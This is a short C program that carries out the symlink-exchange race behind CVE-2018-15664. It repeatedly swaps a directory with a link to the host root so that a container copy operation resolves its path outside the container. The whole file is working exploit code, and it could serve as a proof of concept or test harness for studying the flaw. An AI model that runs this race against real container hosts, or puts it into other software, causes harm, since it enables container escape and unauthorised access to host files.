/* swap PLACE: until PLACE/enough is there, and two minutes at most, PLACE/way is by turns the directory that it was and a link to the root (CVE-2018-15664).
   PLACE/swapping says that it has begun. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

/* Where two names cannot change places, neither is there for a moment. */
static int swap(void) {
  if (renameat2(AT_FDCWD, "way", AT_FDCWD, "other", RENAME_EXCHANGE) == 0) return 0;
  return rename("way", "aside") || rename("other", "way") || rename("aside", "other");
}

int main(int count, char **words) {
  if (count != 2 || chdir(words[1]) != 0 || symlink("/", "other") != 0) return perror("swap"), 1;
  close(open("swapping", O_WRONLY | O_CREAT, 0600));
  for (time_t end = time(NULL) + 120; time(NULL) < end && access("enough", F_OK) != 0;)
    for (int times = 0; times < 64; times++)
      if (swap() != 0) return perror("swap"), 1;
  return 0;
}
